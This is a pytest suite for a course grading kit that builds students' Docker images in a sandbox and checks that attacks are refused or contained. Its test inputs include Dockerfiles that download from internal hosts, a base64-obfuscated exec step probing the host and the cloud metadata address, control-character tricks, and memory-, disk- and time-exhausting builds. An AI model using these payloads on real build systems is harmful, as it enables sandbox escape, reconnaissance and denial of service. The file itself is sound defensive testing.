"""Does a student's Docker build run in the kit's box, and is only the student's own failure charged?

Without an engine (CI has none), a fake ``docker`` on PATH plays an engine failing in each way the
machine can fail, and one that works: the machine's failures must make the checks wait, the
student's failures must lose them, and the command lines must hold the box (internal network,
no pull, limits, everything removed). With an engine (tests marked ``docker``), real builds prove
the box: no network but the course's index, a memory limit, a time limit, a bound on what a build
writes, no pull of an image absent from the store, nothing left behind; and the reference, built
with no registry reachable, keeps its points.

The catalogue of attacks at the Docker door, one test each (the fake engine's first, then the real
engine's): a download by ``ADD``, an ``ONBUILD`` or a build argument that names another image, a
character that moves the kit's label out of a stage, an image chosen to make the check wait, an
answer too deep to read, a build or a container filling the disk, and a service with no model.
"""

import base64
import contextlib
import fcntl
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from dockerfile_parse import DockerfileParser

from tpdl import grading
from tpdl.classroom import run as classroom
from tpdl.core import paths
from tpdl.grading import docker_engine, fresh
from tpdl.judge import sandbox

REFERENCE = paths.sample_submission("reference", "tp1")

# --------------------------------------------------------------------------- a fake engine

# Its store: python:3.11-slim (and FAKE_DOCKER_PRESENT's names); a build adds the built image with the
# labels its Dockerfile sets. Each digit asked of the service carries its label in its pixels, which
# the fake service reads back (``guess``: it answers 3 whatever the image).
FAKE_DOCKER = r"""#!PYTHON -SE
import json, os, sys, time
from pathlib import Path

args, scenario, state = sys.argv[1:], os.environ["FAKE_DOCKER"], Path(os.environ["FAKE_DOCKER_STATE"])
with open(state / "calls.jsonl", "a") as log:
    log.write(json.dumps(args) + "\n")
dead = (state / "dead").exists()
if dead or scenario == "stopped":
    sys.exit("Cannot connect to the Docker daemon at unix:///var/run/docker.sock. "
             "Is the docker daemon running?")
saved = state / "store.json"
store = json.loads(saved.read_text()) if saved.exists() else {
    "sha256:base": {"names": ["python:3.11-slim"], "labels": {}, "digests": [], "parent": "",
                    "size": 188000000}
}
for name in os.environ.get("FAKE_DOCKER_PRESENT", "").split():
    store.setdefault("sha256:" + name,
                     {"names": [name], "labels": {}, "digests": [], "parent": "", "size": 1})


def find(name):
    if scenario == "no-base":
        return None
    return next((identity for identity, image in store.items() if name in (identity, *image["names"])), None)


def inspected(identity):
    image = store[identity]
    return {"Id": identity, "Size": image["size"], "Os": "linux", "Architecture": "amd64",
            "RepoTags": image["names"], "RepoDigests": image["digests"],
            "Config": {"Labels": image["labels"], "OnBuild": None, "Volumes": None}}


def reply(body, url):
    if url.endswith("/simple/"):
        busy = scenario == "index-busy" and any(state.glob("*-run"))  # the student's container holds it
        status = 0 if scenario == "index-down" or busy else 200
        return {"status": status, "body": "<html></html>", "whole": True}
    if url.endswith("/health"):
        status = 0 if scenario == "index-busy" else 200
        return {"status": status, "body": json.dumps({"status": "ok"}), "whole": True}
    if scenario == "deep":
        return {"status": 200, "body": "[" * 100000 + "]" * 100000, "whole": True}
    if scenario == "huge":
        return {"status": 200, "body": "{", "whole": False}
    digit = 3 if scenario == "guess" else body["image"][0][0] % 10
    return {"status": 200, "body": json.dumps({"digit": digit, "probabilities": [0.1] * 10}), "whole": True}


command = args[0]
if command == "info":
    if scenario == "hung":
        time.sleep(3)
    print(state if "--format" in args else "Server Version: fake")
elif command == "image" and args[1] == "inspect":
    names = args[args.index("--") + 1 :] if "--" in args else args[4:]
    found = [identity for identity in map(find, names) if identity]
    if "--format" not in args:
        print(json.dumps([inspected(identity) for identity in found]))
    elif "{{.Parent}}" in args[args.index("--format") + 1]:
        print("\n".join(f"{i} {store[i]['parent']} {store[i]['size']}" for i in found))
    else:
        print("\n".join(found))
    if len(found) < len(names):
        sys.exit("Error: No such image: " + names[-1])
elif command == "images":
    wanted = args[args.index("--filter") + 1].removeprefix("label=") if "--filter" in args else None
    print("\n".join(i for i, image in store.items() if wanted is None or wanted in image["labels"]))
elif command == "rmi":
    for identity in [find(name) for name in args[2:]]:
        store.pop(identity, None)
elif command == "run":
    name = args[args.index("--name") + 1]
    (state / name).touch()
    print("id-" + name)
elif command == "rm":
    for name in args:
        (state / name).unlink(missing_ok=True)
elif command == "inspect":
    print("true" if "Running" in args[2] else ("172.30.0.2" if args[-1].endswith("-index") else "172.30.0.3"))
elif command == "exec":
    bodies, url = json.load(sys.stdin), args[6]
    print(json.dumps([reply(body, url) for body in ([None] if bodies is None else bodies)]))
elif command == "top":
    print("PID UID")
    print("4242 " + ("0" if scenario == "root" else "10001"))
elif command == "build":
    print("Step 1/3 : FROM python:3.11-slim")
    boxed = Path(args[args.index("--file") + 1]).read_text()
    (state / "boxed").write_text(boxed)
    label = boxed.split("LABEL tpdl.box=1 ")[1].split("=")[0]
    tag = args[args.index("--tag") + 1]
    store["sha256:built"] = {"names": [tag], "labels": {"tpdl.box": "1", label: "1"}, "digests": [],
                             "parent": "sha256:base", "size": 1188000000}
    if scenario == "pull":  # an image the kit did not build appears in the store while it builds
        store["sha256:pulled"] = {"names": ["127.0.0.1:47005/evil/img:1"], "labels": {},
                                  "digests": ["127.0.0.1:47005/evil/img@sha256:0"], "parent": "", "size": 1}
    saved.write_text(json.dumps(store))
    if scenario == "engine-dies":
        (state / "dead").touch()
        sys.exit("Error response from daemon: Cannot connect to the Docker daemon")
    if scenario in ("step-fails", "oom"):
        code = 137 if scenario == "oom" else 1
        # What a failing step prints, the student controls: engine-like words must not make it the machine's.
        print("no space left on device; Cannot connect to the Docker daemon")
        sys.exit(f"The command '/bin/sh -c pip install -r requirements.txt' returned a non-zero code: {code}")
    print("Successfully built 0123456789ab")
elif command == "pull":
    sys.exit("pulling is not allowed")
saved.write_text(json.dumps(store))
"""


@pytest.fixture
def fake_engine(tmp_path, monkeypatch):
    """``fake_engine(scenario)``: a fake ``docker`` first on PATH, a prepared wheelhouse; its calls."""
    bin_dir, state, cache = tmp_path / "bin", tmp_path / "engine", tmp_path / "cache"
    bin_dir.mkdir()
    state.mkdir()
    (bin_dir / "docker").write_text(FAKE_DOCKER.replace("PYTHON", sys.executable, 1))
    (bin_dir / "docker").chmod(0o755)
    index = cache / "wheelhouse" / "tp1"
    (index / "simple").mkdir(parents=True)
    (index / "simple" / "index.html").write_text("<html></html>")
    (index / "wheelhouse.json").write_text("{}")
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    monkeypatch.setenv("FAKE_DOCKER_STATE", str(state))
    monkeypatch.setenv("TPDL_DOCKER_CACHE", str(cache))
    monkeypatch.setattr(docker_engine, "POLL_S", 0.05)
    monkeypatch.setenv("TPDL_DOCKER", "auto")  # the kit's tests turn Docker checks off

    def start(scenario: str) -> "FakeEngine":
        monkeypatch.setenv("FAKE_DOCKER", scenario)
        return FakeEngine(state)

    return start


class FakeEngine:
    def __init__(self, state: Path):
        self.state = state

    @property
    def calls(self) -> list[list[str]]:
        log = self.state / "calls.jsonl"
        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []

    def called(self, *words: str) -> list[list[str]]:
        return [call for call in self.calls if call[: len(words)] == list(words)]

    @property
    def images(self) -> set[str]:
        saved = self.state / "store.json"
        return set(json.loads(saved.read_text())) if saved.exists() else {"sha256:base"}


@pytest.fixture
def context(tmp_path):
    """The reference's build context."""
    folder = tmp_path / "context"
    shutil.copytree(REFERENCE, folder)
    return folder


@pytest.fixture(scope="module")
def digits():
    """Digits for the fake engine: each image holds its label in every pixel, which the fake service reads."""
    labels = np.arange(docker_engine.DIGITS) % 10
    images = np.broadcast_to(labels.astype(np.uint8)[:, None, None], (len(labels), 28, 28)).copy()
    return fresh.Fresh(images, labels, 0, "labels written in the pixels")


def test_no_docker_command_waits(tmp_path, monkeypatch, context, digits):
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(docker_engine.MachineFailure, match="not installed") as failure:
        docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert failure.value.lasting


@pytest.mark.parametrize(("scenario", "says"), [("stopped", "no Docker engine"), ("hung", "did not answer")])
def test_an_engine_that_does_not_answer_waits(fake_engine, monkeypatch, context, digits, scenario, says):
    engine = fake_engine(scenario)
    monkeypatch.setattr(docker_engine, "INFO_TIMEOUT_S", 0.5)
    with pytest.raises(docker_engine.MachineFailure, match=says):
        docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert not engine.called("build")


def test_the_kits_base_image_absent_from_the_store_waits_and_is_never_pulled(fake_engine, context, digits):
    engine = fake_engine("no-base")
    with pytest.raises(docker_engine.MachineFailure, match="python:3.11-slim is not in") as failure:
        docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert failure.value.lasting
    assert engine.called("image", "inspect") and not engine.called("build") and not engine.called("pull")


def test_a_missing_wheelhouse_waits(fake_engine, monkeypatch, tmp_path, context, digits):
    engine = fake_engine("ok")
    monkeypatch.setenv("TPDL_DOCKER_CACHE", str(tmp_path / "empty"))
    with pytest.raises(docker_engine.MachineFailure, match="package index for tp1 is not prepared"):
        docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert not engine.called("build")


def test_an_index_that_does_not_answer_waits_and_everything_is_removed(
    fake_engine, monkeypatch, context, digits
):
    engine = fake_engine("index-down")
    monkeypatch.setattr(docker_engine, "INDEX_WAIT_S", 0.2)
    with pytest.raises(docker_engine.MachineFailure, match="package index did not answer"):
        docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert not engine.called("build")
    assert engine.called("rm", "--force") and engine.called("network", "rm", "tpdl-tp1-x-net")


def test_an_engine_dying_during_the_build_waits_and_regrades_next_run(fake_engine, context, digits):
    engine = fake_engine("engine-dies")
    before = docker_engine.state("tp1")
    with pytest.raises(docker_engine.MachineFailure, match="stopped answering during the check") as failure:
        docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert not failure.value.lasting
    (engine.state / "dead").unlink()  # the engine is back: the next run's key differs from this one's
    assert docker_engine.state("tp1") != before


def test_a_full_disk_waits(fake_engine, context, digits):
    engine = fake_engine("ok")
    with pytest.raises(docker_engine.MachineFailure, match="GiB free"):
        docker_engine.build_and_probe(
            context, "tpdl-tp1-x", docker_engine.Limits(disk_floor_bytes=2**62), digits=digits
        )
    assert not engine.called("build")


@pytest.mark.parametrize(("scenario", "says"), [("step-fails", "docker build failed:"), ("oom", "memory")])
def test_a_failing_step_is_the_students_whatever_it_printed(fake_engine, context, digits, scenario, says):
    fake_engine(scenario)
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert not probe.built and says in probe.message and "no space left on device" in probe.log


def test_the_build_runs_in_the_box_and_leaves_nothing(fake_engine, context, digits):
    engine = fake_engine("ok")
    limits = docker_engine.Limits(memory_bytes=2**30)
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", limits, digits=digits)
    assert probe.built and probe.healthy and probe.predict_ok and probe.non_root, probe.message
    assert probe.right == probe.asked == docker_engine.DIGITS
    (network,) = engine.called("network", "create")
    assert "--internal" in network and "com.docker.network.bridge.inhibit_ipv4=true" in network
    (index,) = [call for call in engine.called("run") if call[3] == "tpdl-tp1-x-index"]
    assert {"--read-only", "--cap-drop", "no-new-privileges", "--network", "max-size=1m"} <= set(index)
    (build,) = engine.called("build")
    assert build[build.index("--network") + 1] == "tpdl-tp1-x-net"
    assert {"--no-cache", "--force-rm"} <= set(build) and "--pull" not in build
    assert build[build.index("--memory") + 1] == build[build.index("--memory-swap") + 1] == str(2**30)
    assert build[build.index("--ulimit") + 1] == f"fsize={limits.file_bytes}"
    assert "PIP_INDEX_URL=http://172.30.0.2:8080/simple/" in build and "PIP_TRUSTED_HOST=172.30.0.2" in build
    boxed = Path(build[build.index("--file") + 1])
    assert boxed.parent != context and not boxed.exists(), (
        "the boxed Dockerfile is outside the context, and removed"
    )
    (served,) = [call for call in engine.called("run") if call[3] == "tpdl-tp1-x-run"]
    assert "--publish" not in served and served[served.index("--network") + 1] == "tpdl-tp1-x-net"
    assert {"--memory", "--pids-limit", "--cpus", "no-new-privileges", "--read-only"} <= set(served)
    assert served[served.index("--tmpfs") + 1] == f"/tmp:rw,nosuid,nodev,size={limits.tmp_bytes}"
    assert served[served.index("--log-driver") + 1] == "json-file" and "max-file=2" in served
    assert engine.images == {"sha256:base"}, "the built image was left in the store"
    assert ["network", "rm", "tpdl-tp1-x-net"] in engine.calls
    assert any("tpdl-tp1-x-run" in call and call[0] == "rm" for call in engine.calls)
    assert not engine.called("pull")


def test_a_service_running_as_root_loses_the_point(fake_engine, context, digits):
    fake_engine("root")
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert probe.built and probe.healthy and not probe.non_root and "runs as root" in probe.message


def _boxed(text: str, label: str = "tpdl.box.k") -> str:
    instructions = docker_engine._read(text)
    stages = docker_engine._stages(text, instructions, {"PIP_TRUSTED_HOST": "10.0.0.2"})
    return docker_engine._boxed_dockerfile(text, instructions, stages, label).decode()


def test_the_boxed_dockerfile_is_the_dockerfile_as_read_with_the_label_in_every_stage():
    text = (
        "# escape=\\\n# a comment\r\nARG BASE=python:3.11-slim\r\nFROM ${BASE} AS build\r\n"
        'RUN pip install x \\\n  # a comment inside\n  && echo done\nFROM \\\n  build\nCMD ["x"]'
    )
    added = "LABEL tpdl.box=1 tpdl.box.k=1\nARG PIP_INDEX_URL\nARG PIP_TRUSTED_HOST\n"
    assert _boxed(text) == (
        "# escape=\\\n# a comment\r\nARG BASE=python:3.11-slim\nFROM python:3.11-slim AS build\n"
        f'{added}RUN pip install x   && echo done\nFROM build\n{added}CMD ["x"]\n'
    )
    instructions = docker_engine._read(text)
    stages = docker_engine._stages(text, instructions, {})
    assert list(docker_engine._images(stages, instructions)) == ["python:3.11-slim"]
    text = "FROM a:1 AS s\nFROM scratch\nCOPY --from=s /x /x\nCOPY --from=b:2 /y /y\nCOPY --from=0 /z /z\n"
    instructions = docker_engine._read(text)
    assert list(docker_engine._images(docker_engine._stages(text, instructions, {}), instructions)) == [
        "a:1",
        "b:2",
    ]
    # A stage's name or number refers to it once it is over: within it, Docker would pull an image of
    # that name.
    text = "FROM a:1 AS s\nCOPY --from=s /x /x\nCOPY --from=0 /y /y\n"
    instructions = docker_engine._read(text)
    assert list(docker_engine._images(docker_engine._stages(text, instructions, {}), instructions)) == [
        "a:1",
        "s",
        "0",
    ]


# ---- the attacks, on the fake engine


def _probe(context: Path, dockerfile: str | bytes, digits, **limits) -> docker_engine.Probe:
    path = context / "Dockerfile"
    path.write_bytes(dockerfile.encode() if isinstance(dockerfile, str) else dockerfile)
    return docker_engine.build_and_probe(context, "tpdl-tp1-x", docker_engine.Limits(**limits), digits=digits)


@pytest.mark.parametrize(
    "add",
    [
        "ADD http://127.0.0.1:47002/host-loopback /b",
        "ADD https://192.0.2.2/x /a",
        "ADD git@github.com:someone/repo.git /r",
        'ADD ["http://127.0.0.1:47003/endless", "/c"]',
        "ADD --chown=1000 \\\n    http://127.0.0.1:47002/split \\\n    /d",
        "ADD ${URL} /e",
    ],
)
def test_attack_add_downloading_is_refused_before_the_build(fake_engine, context, digits, add):
    engine = fake_engine("ok")
    probe = _probe(context, f"FROM python:3.11-slim\nARG URL=http://127.0.0.1:47002/x\n{add}\n", digits)
    assert not probe.built and probe.message.startswith("line 3 of the Dockerfile: ADD "), probe.message
    assert "network" in probe.message or "variable" in probe.message
    assert not engine.called("build") and not engine.called("network", "create")


def test_attack_onbuild_and_a_build_argument_naming_an_image_are_the_students(fake_engine, context, digits):
    engine = fake_engine("ok")
    onbuild = _probe(
        context,
        "FROM python:3.11-slim AS base\nONBUILD COPY --from=127.0.0.1:47005/evil/img:1 "
        "/pwned /pwned\nFROM base\n",
        digits,
    )
    assert not onbuild.built and "ONBUILD is not allowed" in onbuild.message
    # Docker takes the kit's own --build-arg value, not the default the student wrote.
    trusted = _probe(context, "ARG PIP_TRUSTED_HOST=python:3.11-slim\nFROM ${PIP_TRUSTED_HOST}\n", digits)
    assert not trusted.built and "names the image 172.30.0.2, which is not in" in trusted.message
    assert "start FROM python:3.11-slim" in trusted.message
    assert ["image", "inspect", "--", "172.30.0.2"] in engine.calls, "the image was not looked up"
    assert not engine.called("build") and not engine.called("pull")


def test_attack_an_image_appearing_during_the_build_is_removed_and_logged(fake_engine, context, digits):
    engine = fake_engine("pull")
    events = []
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits, events=events)
    assert probe.built, probe.message
    assert engine.images == {"sha256:base"}, "the pulled image was left in the store"
    (event,) = events
    assert "sha256:pulled" in event and "127.0.0.1:47005/evil/img:1" in event and "pulled" in event


@pytest.mark.parametrize(
    ("dockerfile", "says"),
    [
        ("FROM python:3.11-slim AS one\n# a form feed:\x0c\nFROM python:3.11-slim\nRUN true\n", "U+000C"),
        ("FROM python:3.11-slim\nRUN true\x85FROM python:3.11-slim\n", "U+0085"),
        ("FROM python:3.11-slim\nRUN true \\\u00a0\nADD http://x/ /a\n", "U+00A0"),
        ("FROM python:3.11-slim\nRUN true\u2028ADD http://x/ /a\n", "U+2028"),
        ("FROM python:3.11-slim\nRUN true\rADD http://x/ /a\n", "U+000D"),
        ("FROM python:3.11-slim\nRUN true\x00\n", "U+0000"),
        (
            "FROM python:3.11-slim\nADD \\\n\nhttp://x/ /a\n",
            "line 3 of the Dockerfile: the instruction continued",
        ),
        ("FROM python:3.11-slim\nRUN true \\", "runs into an empty line or the end of the file"),
        (b"FROM python:3.11-slim\nRUN echo \xff\n", "not UTF-8"),
    ],
)
def test_attack_a_character_docker_reads_otherwise_is_refused(fake_engine, context, digits, dockerfile, says):
    engine = fake_engine("ok")
    probe = _probe(context, dockerfile, digits)
    assert not probe.built and says in probe.message, probe.message
    assert not engine.called("build")


def test_every_stage_of_what_is_built_carries_the_label():
    """However the stages are written, each ``FROM`` of the copy built is followed by the run's label."""
    text = (
        "FROM python:3.11-slim AS one\r\nRUN true\r\n# comment ü é\r\nFROM \\\n  python:3.11-slim\t AS two\n"
        "RUN head -c 1 /dev/zero > /f1 \\\n  # FROM inside a comment\n  && true\nFROM two\nRUN false"
    )
    boxed = _boxed(text)
    parsed = [
        (i["instruction"], i["value"]) for i in DockerfileParser(fileobj=io.BytesIO(boxed.encode())).structure
    ]
    froms = [n for n, (name, _value) in enumerate(parsed) if name == "FROM"]
    assert len(froms) == 3
    for n in froms:
        assert parsed[n + 1] == ("LABEL", "tpdl.box=1 tpdl.box.k=1"), parsed


@pytest.mark.parametrize(
    ("dockerfile", "says"),
    [
        (
            "FROM tpdl-never-stored/python:3.11-slim\nRUN echo hello\n",
            "tpdl-never-stored/python:3.11-slim, which is",
        ),
        ("FROM python:3.11-slim AS build\nCOPY --from=tools:1 /x /x\n", "tools:1, which is not in"),
        ("FROM --platform=linux/arm64 python:3.11-slim\n", "--platform=linux/arm64 asks for a platform"),
        ("ARG T\nFROM python:${T:-3.11-slim}\n", "not an image reference Docker can read"),
        ("FROM python:$UNSET_TAG\n", "not an image reference"),
        ("FROM \\$x\n", "through a variable"),
        ("FROM -q\n", "not an image reference"),
    ],
)
def test_attack_an_image_of_the_students_choice_loses_instead_of_waiting(
    fake_engine, context, digits, dockerfile, says
):
    engine = fake_engine("ok")
    probe = _probe(context, dockerfile, digits)
    assert not probe.built and says in probe.message, probe.message
    assert "python:3.11-slim, as the notebook says" in probe.message
    assert not engine.called("build") and not engine.called("pull")
    assert not (engine.state.parent / "cache" / "failures").exists(), (
        "a student's choice marked a machine failure"
    )


def test_attack_the_machine_is_judged_once_the_students_container_is_gone(
    fake_engine, monkeypatch, context, digits
):
    """A container that keeps the index busy while /health fails: the index answers once it is removed."""
    engine = fake_engine("index-busy")
    monkeypatch.setattr(docker_engine, "HEALTH_WAIT_S", 0.5)
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert probe.built and not probe.healthy and "/health did not answer" in probe.message
    calls = [call for call in engine.calls if call[0] in ("rm", "exec")]
    removed = next(n for n, call in enumerate(calls) if call[0] == "rm" and "tpdl-tp1-x-run" in call)
    assert any(call[0] == "exec" and call[6].endswith("/simple/") for call in calls[removed:]), (
        "the index was not asked after the student's container was removed"
    )
    assert not (engine.state.parent / "cache" / "failures").exists()


@pytest.mark.parametrize(("scenario", "says"), [("deep", "nested too deeply"), ("huge", "more than 64 KiB")])
def test_attack_an_answer_too_deep_or_too_long_is_the_students(fake_engine, context, digits, scenario, says):
    fake_engine(scenario)
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert probe.healthy and not probe.predict_ok and says in probe.message, probe.message


def test_attack_a_service_without_a_model_classifies_few_digits(fake_engine, context, digits):
    fake_engine("guess")
    probe = docker_engine.build_and_probe(context, "tpdl-tp1-x", digits=digits)
    assert probe.predict_ok and probe.asked == docker_engine.DIGITS
    assert probe.right == docker_engine.DIGITS // 10 < docker_engine.LEAST_RIGHT


def test_the_digits_asked_tell_a_model_of_the_course_from_a_guess():
    """The figures of ``LEAST_RIGHT``'s comment, from the binomial law."""
    from math import comb

    n, least = docker_engine.DIGITS, docker_engine.LEAST_RIGHT

    def right(counts: range, p: float) -> float:  # the chance that a model right with chance p gets so many
        return sum(comb(n, k) * p**k * (1 - p) ** (n - k) for k in counts)

    assert right(range(least), 0.97) < 0.01 <= right(range(least + 1), 0.97), (
        "not the 99 % floor of a 97 % model"
    )
    assert right(range(least), 0.995) < 3e-6
    assert right(range(least, n + 1), 0.10) < 1e-30


def test_only_tps_with_docker_checks_put_the_engine_in_their_cache_key(fake_engine):
    limits = sandbox.Limits()
    fake_engine("stopped")
    stopped = {tp: classroom.cache_key(tp, limits) for tp in ("tp1", "tp2")}
    fake_engine("ok")
    running = {tp: classroom.cache_key(tp, limits) for tp in ("tp1", "tp2")}
    assert stopped["tp2"] == running["tp2"], "an engine starting regraded a TP without Docker checks"
    assert stopped["tp1"] != running["tp1"]
    assert [tp for tp in paths.assignments() if docker_engine.builds_images(tp)] == ["tp1"]


@pytest.mark.parametrize(
    ("scenario", "counted", "says"),
    [
        ("no-base", False, "not counted"),
        ("step-fails", True, "docker build failed"),
        ("guess", True, "of 40 digits"),
    ],
)
def test_the_graders_count_only_the_students_failures(
    fake_engine, monkeypatch, zygote, tmp_path, scenario, counted, says
):
    fake_engine(scenario)
    submission = tmp_path / "submission"
    shutil.copytree(REFERENCE, submission)
    result, _log = grading.grade_submission(zygote, "tp1", submission, cells={"docker_image_tests"})
    checks = {check.name: check for check in result.checks}
    assert len(checks) == 2
    served, built = checks["docker_image_serves_as_a_non_root_user"], checks["docker_image_builds"]
    for check in [served] if scenario == "guess" else [served, built]:  # a service without a model builds
        assert not check.passed and check.counted is counted and check.points == 0
    told = served if scenario == "guess" else built
    assert says in told.message, told.message


# --------------------------------------------------------------------------- a real engine


@pytest.fixture(scope="module")
def engine():
    """A Docker engine with the kit's base image and TP1's wheelhouse, or a skip saying what is missing."""
    reason = docker_engine.available()
    if reason:
        pytest.skip(f"no Docker engine here ({reason})")
    missing = [
        image for image in docker_engine.kit_images("tp1") if docker_engine._image_id(image) == "absent"
    ]
    if missing or not (docker_engine.wheelhouse("tp1") / "wheelhouse.json").is_file():
        pytest.skip(f"the engine lacks {missing or 'the wheelhouse'}: run `make docker-check` first")


@pytest.fixture
def untouched_engine(engine, tmp_path_factory):
    """What the engine holds before the test; after it, the same again (nothing of the build left).

    One test at a time uses the engine, whichever pytest-xdist worker runs it: each sees only its own build.
    """
    with open(tmp_path_factory.getbasetemp().parent / "docker-engine.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        before = _inventory()
        yield
        assert _inventory() == before, "the build left images, containers or networks behind"


@pytest.fixture(scope="module")
def fresh_digits():
    from tpdl.course import data

    return fresh.mnist_digits(data.load_at_hand("mnist"), count=docker_engine.DIGITS)


def _inventory() -> dict[str, set[str]]:
    listed = {
        "images": ["images", "--all", "--quiet", "--no-trunc"],
        "containers": ["ps", "--all", "--quiet", "--no-trunc"],
        "networks": ["network", "ls", "--quiet", "--no-trunc"],
    }
    return {what: set(_docker(*args).stdout.split()) for what, args in listed.items()}


def _docker(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["docker", *args], capture_output=True, text=True, timeout=60)


def _attack(tmp_path: Path, dockerfile: str, **files: str) -> Path:
    """The reference's context with the attacker's Dockerfile (and files)."""
    folder = tmp_path / "attack"
    shutil.copytree(REFERENCE, folder)
    (folder / ".dockerignore").unlink()
    (folder / "Dockerfile").write_text(dockerfile)
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


class _Listener:
    """A TCP listener on ``host``, counting the connections it gets (a registry, a web server...)."""

    def __init__(self, host: str):
        self.socket = socket.create_server((host, 0))
        self.address = f"{host}:{self.socket.getsockname()[1]}"
        self.visits = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                self.socket.accept()[0].close()
                self.visits += 1

    def close(self):
        self.socket.close()


def _host_addresses() -> list[str]:
    """This machine's IPv4 addresses other than loopback, and the default bridge's gateway."""
    found = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True).stdout
    addresses = {line.split()[3].split("/")[0] for line in found.splitlines() if " lo " not in line}
    gateway = _docker(
        "network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Gateway}}"
    ).stdout.strip()
    return sorted(addresses | {gateway} - {""})


def _engine_events(since: str, *filters: str) -> list[str]:
    """What the engine did since ``since`` (``docker events`` with ``filters``): type, action, name."""
    until = _now()
    chosen = [word for kept in filters for word in ("--filter", kept)]
    listed = ["--format", "{{.Type}} {{.Action}} {{.Actor.Attributes.name}}"]
    events = _docker("events", "--since", since, "--until", until, *chosen, *listed)
    assert events.returncode == 0, events.stderr
    return events.stdout.splitlines()


def _pulls_and_builds(since: str) -> list[str]:
    """The images the engine pulled, and the containers it created but the box's index, since ``since``."""
    pulls = _engine_events(since, "type=image", "event=pull")
    created = _engine_events(since, "type=container", "event=create")
    return pulls + [event for event in created if not event.endswith("-index")]


def _now() -> str:
    return _docker("system", "info", "--format", "{{.SystemTime}}").stdout.strip()


REACH = """\
import socket, sys
reached = []
for target in sys.argv[1:]:
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=2).close()
        reached.append(target)
        print("reached", target, flush=True)
    except OSError as error:
        print("unreachable", target, type(error).__name__, flush=True)
sys.exit(0 if reached else 1)
"""


def _python_step(script: str, *args: str) -> str:
    """A ``RUN`` step running ``script`` with ``args`` (the script travels base64-encoded)."""
    encoded = base64.b64encode(script.encode()).decode()
    return f"RUN python3 -c \"import base64; exec(base64.b64decode('{encoded}'))\" {' '.join(args)}\n"


@pytest.mark.docker
@pytest.mark.slow
def test_a_build_reaches_neither_the_internet_nor_the_host(untouched_engine, tmp_path, fresh_digits):
    listener = _Listener("0.0.0.0")
    port = listener.address.rsplit(":", 1)[1]
    targets = [f"{host}:{port}" for host in _host_addresses()]
    targets += ["pypi.org:443", "151.101.0.223:443", "169.254.169.254:80", "10.0.0.1:80"]
    # Outside the box, on the default bridge, the same script reaches the host's listener.
    outside = _docker("run", "--rm", docker_engine.kit_images("tp1")[0], "python3", "-c", REACH, targets[0])
    assert "reached" in outside.stdout, (
        f"the control could not reach the host: {outside.stdout}{outside.stderr}"
    )
    time.sleep(0.5)
    visited = listener.visits
    assert visited, "the control's connection did not reach the listener"
    context = _attack(tmp_path, "FROM python:3.11-slim\n" + _python_step(REACH, *targets))
    probe = docker_engine.build_and_probe(
        context, docker_engine.image_name("attacker-network"), digits=fresh_digits
    )
    assert not probe.built
    for target in targets:
        assert f"unreachable {target}" in probe.log, f"{target} was not tried: {probe.log}"
    assert "reached" not in probe.log.replace("unreachable", "")
    time.sleep(0.5)
    assert listener.visits == visited, "a build step connected to the host's listener"
    listener.close()


MEMORY = """\
chunks = []
for mib in range(64, 8192, 64):
    chunks.append(b"\\x01" * (64 * 2**20))  # written, so held
    print("held", mib, "MiB", flush=True)
"""


@pytest.mark.docker
def test_a_build_step_holding_too_much_memory_is_killed(untouched_engine, tmp_path, fresh_digits):
    context = _attack(tmp_path, "FROM python:3.11-slim\n" + _python_step(MEMORY))
    limit = 256 * 2**20
    probe = docker_engine.build_and_probe(
        context,
        docker_engine.image_name("attacker-memory"),
        docker_engine.Limits(memory_bytes=limit),
        digits=fresh_digits,
    )
    held = [int(line.split()[1]) for line in probe.log.splitlines() if line.startswith("held ")]
    assert held, f"the attack did not run: {probe.log}"
    assert not probe.built and "memory" in probe.message
    assert max(held) * 2**20 <= limit, (
        f"a build step held {max(held)} MiB under a limit of {limit // 2**20} MiB"
    )


@pytest.mark.docker
def test_an_endless_build_is_stopped(untouched_engine, tmp_path, fresh_digits):
    context = _attack(tmp_path, "FROM python:3.11-slim\nRUN echo started && sleep infinity\n")
    probe = docker_engine.build_and_probe(
        context,
        docker_engine.image_name("attacker-sleep"),
        docker_engine.Limits(build_s=10),
        digits=fresh_digits,
    )
    assert "started" in probe.log, f"the attack did not run: {probe.log}"
    assert not probe.built and "did not finish within 10 s" in probe.message


@pytest.mark.docker
def test_a_build_filling_the_disk_is_stopped(untouched_engine, tmp_path, fresh_digits):
    context = _attack(
        tmp_path,
        "FROM python:3.11-slim\nRUN for i in $(seq 1 100); do "
        "head -c 50000000 /dev/zero > /fill$i && echo wrote $i; sleep 0.1; done\n",
    )
    limit = 300 * 10**6
    probe = docker_engine.build_and_probe(
        context,
        docker_engine.image_name("attacker-disk"),
        docker_engine.Limits(written_bytes=limit),
        digits=fresh_digits,
    )
    wrote = [int(line.split()[1]) for line in probe.log.splitlines() if line.startswith("wrote ")]
    assert wrote, f"the attack did not run: {probe.log}"
    assert not probe.built and "more than the 0.28 GiB allowed" in probe.message
